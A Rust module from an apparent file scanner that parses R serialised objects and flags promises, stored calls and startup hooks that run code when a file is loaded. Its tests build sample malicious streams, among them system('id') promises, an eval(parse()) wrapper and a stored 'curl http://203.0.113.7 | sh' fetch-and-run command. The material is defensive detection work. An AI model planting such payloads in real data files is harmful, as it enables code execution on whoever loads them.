//! R objects on disk: `saveRDS` files and `save` workspaces, in XDR, ASCII and native encoding.
//!
//! Source: *R Internals* §1.8 and `src/main/serialize.c` of R 4.4. [`walk`] reads the object graph without building
//! values; [`verdict`] judges promises and calls in it. Compressed files are opened by the archive readers and arrive
//! here as members. Cost: linear; vectors of numbers are skipped.

mod graph;
mod reader;
mod verdict;
mod walk;

use super::malformed::{MALFORMED_STRUCTURE, malformed};
use crate::text::printable;
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Kind, Rule};

pub use verdict::{R_CODE_CALL, R_PROMISE, R_STARTUP_HOOK};

/// R serialised objects (`.rds`, `.rda`, `.RData`).
pub static R_DATA: RData = RData;

/// See [`R_DATA`].
#[derive(Debug, Clone, Copy)]
pub struct RData;

impl Format for RData {
    fn id(&self) -> &'static str {
        "r-data"
    }

    fn name(&self) -> &'static str {
        "R serialised objects"
    }

    fn kind(&self) -> Kind {
        Kind::Model
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["rds", "rda", "rdata"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&R_PROMISE, &R_CODE_CALL, &R_STARTUP_HOOK, &MALFORMED_STRUCTURE]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let Some((_, encoding, body)) = walk::header(input.bytes) else { return Recognition::No };
        let is_workspace = input.bytes.starts_with(b"RD");
        if is_workspace || walk::version(encoding, input.bytes, body).is_some() {
            Recognition::Certain
        } else if self.extensions().contains(&input.extension().as_ref()) {
            Recognition::Weak
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        let Some((is_workspace, encoding, body)) = walk::header(input.bytes) else {
            scan.gap(0, "no R serialisation header");
            return;
        };
        let graph = walk::walk(encoding, input.bytes, body, scan);
        verdict::judge(&graph, is_workspace, scan);
        match graph.stopped {
            Some((offset, what)) => {
                malformed(scan, offset, format!("the R object graph breaks off: {what}"));
                scan.gap(offset as u64, format!("{what}; the rest was searched as text only"));
                let rest = input.bytes.get(offset.min(input.bytes.len())..).unwrap_or_default();
                verdict::judge_text(rest, offset, scan);
                printable::inspect_runs(rest, offset, scan);
            }
            None if graph.end < input.bytes.len() => {
                let rest = input.bytes.get(graph.end..).unwrap_or_default();
                if rest.iter().any(|byte| !byte.is_ascii_whitespace() && *byte != 0) {
                    malformed(scan, graph.end, format!("{} bytes follow the R object", rest.len()));
                    scan.member("data after the object", rest);
                }
            }
            None => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::{outcome, rules_of};
    use bartizan_core::Severity;
    use proptest::prelude::*;

    /// Builds XDR streams.
    #[derive(Default, Clone)]
    struct Xdr(Vec<u8>);

    impl Xdr {
        fn rds() -> Self {
            Self(b"X\n\x00\x00\x00\x02\x00\x04\x03\x00\x00\x02\x03\x00".to_vec())
        }

        fn workspace() -> Self {
            Self([b"RDX2\n".as_slice(), &Self::rds().0].concat())
        }

        fn int(mut self, value: i32) -> Self {
            self.0.extend(value.to_be_bytes());
            self
        }

        fn chars(self, text: &str) -> Self {
            let mut out = self.int(0x0004_0009).int(i32::try_from(text.len()).unwrap());
            out.0.extend(text.as_bytes());
            out
        }

        fn symbol(self, name: &str) -> Self {
            self.int(1).chars(name)
        }

        fn string(self, text: &str) -> Self {
            self.int(16).int(1).chars(text)
        }

        /// `name("argument")`
        fn call(self, name: &str, argument: &str) -> Self {
            self.int(6).symbol(name).int(2).string(argument).int(254)
        }

        /// An unforced promise for what follows.
        fn promise(self) -> Self {
            self.int(5).int(252)
        }
    }

    #[test]
    fn a_vector_of_numbers_is_clean() {
        let mut bytes = Xdr::rds().int(14).int(2).0;
        bytes.extend([0; 16]);
        let outcome = outcome(&R_DATA, &bytes);
        assert!(outcome.findings.is_empty() && outcome.gaps.is_empty(), "{outcome:?}");
    }

    #[test]
    fn a_promise_that_runs_a_command_when_touched_is_critical() {
        let bytes = Xdr::rds().promise().call("system", "id").0;
        let outcome = outcome(&R_DATA, &bytes);
        assert_eq!(
            (outcome.findings[0].rule.id, outcome.findings[0].severity),
            ("model/r-promise", Severity::Critical)
        );
        assert!(outcome.findings[0].message.contains("system(\"id\")"), "{}", outcome.findings[0].message);
    }

    #[test]
    fn a_promise_hidden_behind_brackets_is_still_critical() {
        // eval(quote(system("id")))
        let bytes = Xdr::rds()
            .promise()
            .int(6)
            .symbol("eval")
            .int(2)
            .int(6)
            .symbol("quote")
            .int(2)
            .call("system", "id");
        let bytes = bytes.int(254).int(254).0;
        assert_eq!(outcome(&R_DATA, &bytes).findings[0].severity, Severity::Critical);
    }

    #[test]
    fn a_forced_promise_of_a_value_is_silent() {
        let bytes = Xdr::rds().int(5).int(254).symbol("x").0;
        assert_eq!(rules_of(&R_DATA, &bytes), Vec::<&str>::new());
    }

    #[test]
    fn the_call_kept_by_a_fitted_model_is_silent() {
        let bytes = Xdr::rds().call("lm", "y ~ x").0;
        assert_eq!(rules_of(&R_DATA, &bytes), Vec::<&str>::new());
    }

    #[test]
    fn a_stored_call_of_system_is_high() {
        let bytes = Xdr::rds().call("system", "curl http://203.0.113.7 | sh").0;
        assert_eq!(outcome(&R_DATA, &bytes).findings[0].severity, Severity::High);
    }

    #[test]
    fn a_function_that_evaluates_text_is_judged_by_the_text() {
        let evaluates = |text: &str| {
            // function(x) eval(parse("…"))
            let body = Xdr::rds().int(0x403).int(253).int(254).int(6).symbol("eval").int(2);
            let bytes = body.call("parse", text).int(254).0;
            outcome(&R_DATA, &bytes).findings[0].severity
        };
        assert_eq!(evaluates("system('id')"), Severity::High);
        assert_eq!(evaluates("x <- base::dyn.load (f)"), Severity::High);
        assert_eq!(evaluates("operating_system(x) + y"), Severity::Medium);
    }

    #[test]
    fn a_function_called_dot_first_in_a_workspace_is_a_startup_hook() {
        // pairlist with tag .First, value closure(env=global, formals=nil, body=1)
        let bytes =
            Xdr::workspace().int(0x402).symbol(".First").int(0x403).int(253).int(254).string("x").int(254).0;
        assert_eq!(rules_of(&R_DATA, &bytes), ["model/r-startup-hook"]);
        let bytes =
            Xdr::workspace().int(0x402).symbol("first").int(0x403).int(253).int(254).string("x").int(254).0;
        assert_eq!(rules_of(&R_DATA, &bytes), Vec::<&str>::new());
    }

    #[test]
    fn the_ascii_encoding_is_read_too() {
        let text = b"A\n2\n262144\n131840\n5\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n";
        assert_eq!(outcome(&R_DATA, text).findings[0].severity, Severity::Critical);
    }

    #[test]
    fn a_cut_stream_keeps_what_was_found_and_is_incomplete() {
        let bytes = Xdr::rds().int(19).int(3).call("system", "id").int(16).0;
        let outcome = outcome(&R_DATA, &bytes);
        assert_eq!(outcome.findings[0].severity, Severity::High);
        assert!(!outcome.gaps.is_empty());
    }

    #[test]
    fn deep_lists_do_not_overflow_the_stack() {
        let mut bytes = Xdr::rds();
        for _ in 0..200_000 {
            bytes = bytes.int(19).int(1);
        }
        outcome(&R_DATA, &bytes.0);
    }

    proptest! {
        #[test]
        fn any_mutated_stream_gives_a_result(at in 0usize..120, with: u8, cut in 0usize..120) {
            let mut bytes = Xdr::workspace().promise().call("system", "id").call("eval", "x").string("y").0;
            if let Some(byte) = bytes.get_mut(at) { *byte = with; }
            bytes.truncate(bytes.len().saturating_sub(cut));
            outcome(&R_DATA, &bytes);
        }

        #[test]
        fn any_words_give_a_result(words in proptest::collection::vec(0i32..256, 0..80)) {
            outcome(&R_DATA, &words.into_iter().fold(Xdr::rds(), Xdr::int).0);
        }
    }
}
